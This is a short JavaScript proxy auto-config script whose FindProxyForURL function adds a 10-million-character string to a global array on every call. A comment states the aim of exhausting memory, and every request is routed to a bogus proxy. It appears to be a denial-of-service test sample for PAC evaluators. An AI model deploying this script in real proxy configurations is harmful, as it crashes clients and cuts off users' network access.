// Each call leaves something behind, until nothing fits any more.
var kept = [];
function FindProxyForURL(url, host) {
    kept.push("k".repeat(1e7) + host);
    return "PROXY kept:1";
}
